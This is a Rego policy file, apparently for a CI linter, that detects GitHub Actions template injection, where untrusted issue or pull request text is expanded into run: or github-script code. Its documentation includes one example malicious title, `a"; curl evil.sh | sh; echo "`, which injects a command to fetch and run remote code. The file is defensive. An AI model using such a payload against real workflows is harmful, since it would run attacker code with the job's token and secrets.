# METADATA
# title: Attacker-controlled text is expanded into a script
# description: |
#   ## What it does
#   Reports a `${{ … }}` expression inside a `run:` script or an `actions/github-script`
#   `script:` when it reads text that whoever opens an issue, a pull request, a comment or a
#   branch controls: titles, bodies, branch names, commit messages, author names.
#
#   ## Why is this bad?
#   Expressions are substituted into the script's text before the shell (or Node) sees it. A
#   pull request titled `a"; curl evil.sh | sh; echo "` becomes part of the program, running with
#   the job's token and secrets. An environment variable is data to the shell, never code.
#
#   ## Example
#   ```yaml
#   - run: echo "${{ github.event.issue.title }}"
#   ```
#
#   Use instead:
#   ```yaml
#   - run: echo "$TITLE"
#     env:
#       TITLE: ${{ github.event.issue.title }}
#   ```
#
#   ## Fix safety
#   In a `run:` script the fix adds the expression to the step's `env:` under a name made from
#   the context (`ISSUE_TITLE`) and replaces it in the script with `${ISSUE_TITLE}` (`$env:…` for
#   PowerShell). It is unsafe: an unquoted use is now split into words by the shell, so check the
#   quoting. `github-script` code is not fixed: the expression usually sits inside a JavaScript
#   string, and only the author knows how to rewrite it with `process.env`.
package atlas9.ci.template_injection

import rego.v1

deny contains finding if {
	some expression in input.script_expressions
	some context in expression.untrusted
	place := {"run": "shell script", "script": "github-script code"}[expression["in"]]
	finding := {
		"message": concat("", [
			"`${{ ", expression.text, " }}` is pasted into the ", place,
			" before it runs, so whoever writes `", context,
			"` writes code here; pass it through `env:` and use the variable",
		]),
		"path": expression.path,
		"match": expression.text,
	}
}
